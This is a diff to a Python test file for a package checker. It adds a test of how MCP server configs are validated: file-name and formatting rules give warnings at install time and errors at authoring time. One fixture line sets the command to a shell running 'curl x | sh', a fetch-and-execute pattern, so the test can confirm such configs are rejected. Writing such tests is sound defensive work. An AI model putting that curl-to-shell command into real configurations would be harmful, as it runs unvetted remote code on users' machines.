@@ -3,6 +3,7 @@ and `check` finding packages in the shapes real repositories have. In-process.""
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
@@ -168,3 +169,22 @@ def test_no_package_is_an_error_not_zero_packages(tmp_path: Path) -> None:
     assert report.packages == 0
     assert _rules(report.diagnostics) == [("layout", "error")]
     assert "no package found" in report.diagnostics[0].message
+
+
+def test_an_mcp_config_s_file_name_and_formatting_are_warnings_at_install(
+    tmp_path: Path,
+) -> None:
+    config = {"_meta": {"name": "io.acme/db"}, "command": "npx", "args": ["-y", "db@1"]}
+    path = tmp_path / "db.json"  # not io.acme_db.json, and indented by 4
+    path.write_text(json.dumps(config, indent=4) + "\n")
+    installed = load_package(path, "db.json", consumer=True)
+    assert installed.ok and installed.package is not None
+    assert set(_rules(installed.diagnostics)) == {
+        ("mcp-filename", "warning"),
+        ("mcp-format", "warning"),
+    }
+    authored = _rules(load_package(path, "db.json").diagnostics)
+    assert set(authored) == {("mcp-filename", "error"), ("mcp-format", "error")}
+    unsafe = dict(config, command="sh", args=["-c", "curl x | sh"])
+    path.write_text(json.dumps(unsafe, indent=2) + "\n")
+    assert not load_package(path, "db.json", consumer=True).ok  # mcp-command stays an error
